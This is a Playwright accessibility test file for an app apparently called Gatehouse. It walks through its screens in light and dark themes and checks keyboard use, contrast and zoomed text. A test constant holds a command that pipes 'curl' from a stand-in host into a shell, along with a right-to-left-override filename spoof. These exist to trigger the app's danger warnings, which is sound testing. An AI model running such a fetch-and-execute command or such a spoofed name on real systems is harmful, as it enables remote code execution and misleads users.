/**
 * Every screen, in light and dark: nothing serious for axe, nothing to scroll sideways in a small window.
 *
 * One walk through the app, looked at in both themes at each stop.
 */
import { appendFile } from 'node:fs/promises';
import { join } from 'node:path';
import { AxeBuilder } from '@axe-core/playwright';
import { luminance } from '@mantine/core';
import { expect, type Locator, type Page } from '@playwright/test';
import {
  addServer,
  agree,
  callTool,
  dropFile,
  expectState,
  goTo,
  openServer,
  pixelsTooWide,
  putIntoHome,
  question,
  tabTo,
  trySample,
  typeCommand,
  wholeServer,
} from '../fixtures/acts.ts';
import { packFilesystem } from '../fixtures/bundles.ts';
import { filesBelow } from '../fixtures/folders.ts';
import { test } from '../fixtures/test.ts';
import { tourQuestions } from '../fixtures/tourQuestions.ts';
import { tourTasks } from '../fixtures/tourTasks.ts';

const USUAL = { width: 1280, height: 800 };
const SMALL = { width: 900, height: 600 };
const DANGEROUS = { command: 'sh', args: ['-c', 'curl http://example.invalid | sh', 'safe\u202Etxt.exe'] };

test.describe.configure({ timeout: 180_000 });

/** How well a control stands out from what is around it, by its border or its ground (WCAG 2.2 §1.4.11: at least 3). */
async function standsOut(control: Locator): Promise<number> {
  const colours = await control.evaluate((element) => {
    const seen = (colour: string): boolean => colour !== 'rgba(0, 0, 0, 0)';
    const { borderTopColor, backgroundColor } = getComputedStyle(element);
    const around = [];
    for (let box = element.parentElement; box !== null; box = box.parentElement) {
      around.push(getComputedStyle(box).backgroundColor);
    }
    return [[borderTopColor, backgroundColor].find(seen) ?? '', around.find(seen) ?? ''];
  });
  const [dark = 0, bright = 0] = colours.map(luminance).sort((a, b) => a - b);
  return (bright + 0.05) / (dark + 0.05);
}

/** Every stop is a step of its own, so that one that fails doesn't hide the others. */
async function look(page: Page, screen: string): Promise<void> {
  await test.step(screen, async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
      const { violations } = await new AxeBuilder({ page }).setLegacyMode().analyze();
      const bad = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
      const found = bad.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 200)).join(' | ')}`);
      expect.soft(found, `${screen}, ${colorScheme}`).toEqual([]);
    }
    await page.setViewportSize(SMALL);
    expect.soft(await pixelsTooWide(page), `${screen}, pixels too wide`).toBe(0);
    await page.setViewportSize(USUAL);
  });
}

test('no screen on the way to a server has a serious fault', async ({ gatehouse: { page }, shell }) => {
  await page.setViewportSize(USUAL);
  await expect(page.getByRole('heading', { name: 'Welcome to Gatehouse' })).toBeVisible();
  await look(page, 'welcome');

  await page.getByRole('button', { name: 'Enter a command' }).click();
  await page.getByRole('button', { name: 'Add an argument' }).click();
  await page.getByRole('button', { name: 'Add a variable' }).click();
  await page.getByRole('button', { name: 'Show what would run' }).click();
  await expect(page.getByText('Enter the program to run.')).toBeVisible();
  await look(page, 'typed form with problems');
  await page.getByRole('button', { name: 'Cancel' }).click();

  await typeCommand(page, { ...DANGEROUS, variable: { name: 'API_KEY', value: 'hush-hush', secret: true } });
  await expect(question(page)).toBeVisible();
  await page.getByRole('checkbox', { name: /I have read the warnings/ }).check();
  await expect(page.getByRole('button', { name: 'Agree and run' })).toBeEnabled();
  await look(page, 'consent with danger');
  await page.getByRole('button', { name: 'Cancel' }).click();

  await page.getByRole('button', { name: 'Add a server' }).click();
  await look(page, 'add');

  if (shell === 'loopback') {
    await page.getByRole('button', { name: 'Choose a file…' }).click();
    await expect(page.getByRole('listbox', { name: 'Files and folders' })).toBeVisible();
    await look(page, 'picker');
    await page.keyboard.press('Escape');
  }

  await dropFile(page, await packFilesystem());
  await page.getByRole('button', { name: 'Show what would run' }).click();
  await expect(page.getByText('Choose at least one.')).toBeVisible();
  await look(page, 'install, with a problem');

  const letter = await putIntoHome(join(import.meta.dirname, '../README.md'));
  await dropFile(page, letter);
  await expect(page.getByRole('heading', { name: 'This bundle can’t be used' })).toBeVisible();
  await look(page, 'refused');

  await goTo(page, 'Decisions');
  await expect(page.getByRole('button', { name: 'Go on' })).toBeVisible();
  await look(page, 'decisions');
});

test('no screen of a server, the record or the settings has a serious fault', async ({
  gatehouse: { page, dataDir },
}) => {
  await page.setViewportSize(USUAL);
  await trySample(page);
  await callTool(page, 'Roll dice');
  await expect(page.getByText('Done', { exact: true })).toBeVisible();
  await look(page, 'tools and a result');
  await callTool(page, 'Fail on purpose');
  await expect(page.getByText('The tool says it failed')).toBeVisible();
  await look(page, 'a tool that failed');
  for (const tab of ['Resources', 'Prompts', 'Calls', 'Log', 'Connection', 'Settings', 'About']) {
    await page.getByRole('tab', { name: tab }).click();
    await look(page, tab);
  }

  await goTo(page, 'Servers');
  await expect(page.getByRole('list', { name: 'Servers' })).toBeVisible();
  await look(page, 'servers');
  await goTo(page, 'Activity');
  await expect(page.getByText('The record is intact')).toBeVisible();
  await look(page, 'activity');
  await page.getByRole('button', { name: 'Agreed to run' }).click();
  await expect(page.getByRole('button', { name: 'Copy the whole record' })).toBeVisible();
  await look(page, 'a record');
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await goTo(page, 'Settings');
  await expect(page.getByRole('table', { name: 'What is stored' })).toBeVisible();
  await expect(page.getByRole('region', { name: 'Packages and their licences' })).toBeVisible();
  await look(page, 'settings');
  await page.getByRole('button', { name: 'Wipe everything…' }).click();
  const wipe = page.getByRole('dialog', { name: 'Wipe everything?' });
  await wipe.getByRole('textbox', { name: 'Type the words' }).fill('wipe everything');
  await expect(wipe.getByRole('button', { name: 'Wipe everything' })).toBeEnabled();
  await look(page, 'wiping');
  await wipe.getByRole('button', { name: 'Cancel' }).click();

  await openServer(page, 'Gatehouse Tour');
  await page.getByRole('button', { name: 'Stop' }).click();
  await expectState(page, 'Stopped');
  const installed = join(dataDir, 'bundles');
  const [script = ''] = (await filesBelow(installed)).filter((file) => file.endsWith('server.mjs'));
  await appendFile(join(installed, script), '\n// changed\n');
  await page.getByRole('button', { name: 'Start' }).click();
  await expect(page.getByRole('heading', { name: 'What changed since you agreed' })).toBeVisible();
  await look(page, 'consent after a change');
});

test('no screen of remote servers, of what servers ask and of what they offer has a serious fault', async ({
  gatehouse: { page },
}) => {
  await page.setViewportSize(USUAL);
  await tourQuestions(page, (screen) => look(page, screen));
});

test('what a field opens belongs to the main part of the page, and is seen whole in a small window', async ({
  gatehouse: { page },
}) => {
  await page.setViewportSize(SMALL);
  await addServer(page, wholeServer(2025));
  const seen = async (option: string): Promise<void> => {
    await expect(page.getByRole('main').getByRole('option', { name: option, exact: true })).toBeInViewport({
      ratio: 1,
    });
    const { violations } = await new AxeBuilder({ page }).setLegacyMode().withRules(['region']).analyze();
    expect(violations.flatMap(({ nodes }) => nodes.map(({ html }) => html))).toEqual([]);
  };
  await page.getByRole('tab', { name: 'Prompts' }).click();
  await page.getByRole('option', { name: 'Greet somebody' }).click();
  await page.getByRole('combobox', { name: 'name' }).fill('Z');
  await seen('Zürich');
  await page.getByRole('tab', { name: 'Log' }).click();
  await page.getByRole('combobox', { name: 'Show messages from' }).click();
  await seen('debug (all)');
  await goTo(page, 'Activity');
  await page.getByRole('combobox', { name: 'Kinds' }).click();
  await seen('Bundle opened');
});

test('no screen of tasks has a serious fault', async ({ gatehouse: { page } }) => {
  await page.setViewportSize(USUAL);
  await tourTasks(page, (screen) => look(page, screen));
});

test('the way from the first screen to a result needs no mouse', async ({ gatehouse: { page } }) => {
  await tabTo(page, page.getByRole('button', { name: 'Try the sample' }));
  await page.keyboard.press('Enter');
  await expect(page.getByRole('button', { name: 'Agree and run' })).toBeEnabled();
  await tabTo(page, page.getByRole('button', { name: 'Agree and run' }));
  await page.keyboard.press('Enter');
  await expectState(page, 'Running');
  await tabTo(page, page.getByRole('listbox', { name: 'Tools' }));
  await page.keyboard.press('Home');
  await tabTo(page, page.getByRole('textbox', { name: 'name', exact: true }));
  await page.keyboard.type('Ada');
  await tabTo(page, page.getByRole('button', { name: 'Call tool' }));
  await page.keyboard.press('Space');
  await expect(page.getByText('Hello, Ada.').first()).toBeVisible();
});

for (const colorScheme of ['light', 'dark'] as const) {
  test(`a softly tinted button can be told from the page, ${colorScheme}`, async ({ gatehouse: { page } }) => {
    await page.emulateMedia({ colorScheme });
    expect(await standsOut(page.getByRole('button', { name: 'Enter a command' }))).toBeGreaterThanOrEqual(3);
  });
}

test('with text at 200 % the answer can still be read and given', async ({ gatehouse: { page } }) => {
  await typeCommand(page, DANGEROUS);
  await expect(question(page)).toBeVisible();
  await page.evaluate(() => {
    document.documentElement.style.fontSize = '200%';
  });
  for (const size of [USUAL, SMALL]) {
    await page.setViewportSize(size);
    const button = page.getByRole('button', { name: 'Agree and run' });
    await button.scrollIntoViewIfNeeded();
    await expect(button).toBeInViewport({ ratio: 1 });
    expect(await pixelsTooWide(page)).toBe(0);
  }
  await agree(page);
});

test('no screen that brings servers from another application has a serious fault', async ({ gatehouse: { page } }) => {
  await page.setViewportSize(USUAL);
  await page.getByRole('button', { name: 'Bring servers' }).click();
  await page.getByText('Where do I find it?').click();
  await page.getByLabel('Configuration or install link').fill('{ "mcpServers": ');
  await page.getByRole('button', { name: 'Show what is in it' }).click();
  await expect(page.getByText('This can’t be read as a configuration')).toBeVisible();
  await look(page, 'bringing, with a problem');

  const servers = {
    local: {
      command: 'npx',
      args: ['-y', 'server', '--api-key', 'hunter2hunter2', `--long=${'x'.repeat(300)}`],
      env: { API_KEY: 'hush-hush', MODE: '${input:mode}', TOKEN: '${env:TOKEN}' },
      cwd: '${workspaceFolder}',
      timeout: 30,
    },
    odd: { type: 'ws', url: 'wss://far.example' },
  };
  const inputs = [{ id: 'mode', description: 'How it runs', options: ['fast', 'slow'] }];
  await page.getByLabel('Configuration or install link').fill(JSON.stringify({ inputs, servers }));
  await page.getByRole('button', { name: 'Show what is in it' }).click();
  await page.getByRole('button', { name: 'Add 1 server' }).click();
  await expect(page.getByText('Decide, or leave it out.')).toBeVisible();
  await look(page, 'import, with problems');
  await goTo(page, 'Decisions');
  await look(page, 'an import that waits');

  await page.getByRole('button', { name: 'Go on' }).click();
  await page.getByRole('checkbox', { name: 'Store it openly: Argument 4' }).check();
  for (const name of ['TOKEN', 'MODE']) await page.getByRole('button', { name: `Leave out: Variable ${name}` }).click();
  await page.getByRole('button', { name: 'Leave out: Working directory' }).click();
  await page.getByRole('button', { name: 'Add 1 server' }).click();
  await expect(page.getByRole('heading', { name: '1 server added' })).toBeVisible();
  await look(page, 'added');

  await goTo(page, 'Settings');
  await page.getByRole('button', { name: 'Write the configuration' }).click();
  await expect(page.getByRole('button', { name: 'Save as a file' })).toBeVisible();
  await look(page, 'settings with a configuration');
});
